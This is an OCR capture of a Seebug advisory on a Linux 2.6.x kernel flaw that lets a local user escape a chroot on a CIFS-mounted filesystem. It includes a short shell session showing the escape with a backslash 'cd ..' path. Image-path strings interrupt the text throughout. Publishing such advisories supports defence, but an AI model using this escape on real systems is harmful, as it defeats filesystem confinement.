Linux Kernel 2.6.x CIFS CHRoot Security Restriction Bypass Vulnerability

ID SSV:81362
Type seebug
Reporter Root
Modified 2014-07-01T00:00:00


No description provided by source.The Linux Kernel is prone to a vulnerability that allows attackers to bypass a security restriction. This issue is due to a failure in the kernel to properly sanitize user-supplied data.

The problem affects chroot inside of an SMB-mounted filesystem ('cifs'). A local attacker who isbounded by the chroot can exploit this issue to bypass the chrootrestriction and gain unauthorized access to the filesystem.

root@server me]# pwd
[root@server me]# ls
bin chroot etc lib
[root@server me]# chroot .
bash-2.05a# pwdbash-2.05a# ls
bin chroot etc lib
bash-2.05a# cd..\bash-2.05a# pwd
/..bash-2.05a# ls<list of files from parent>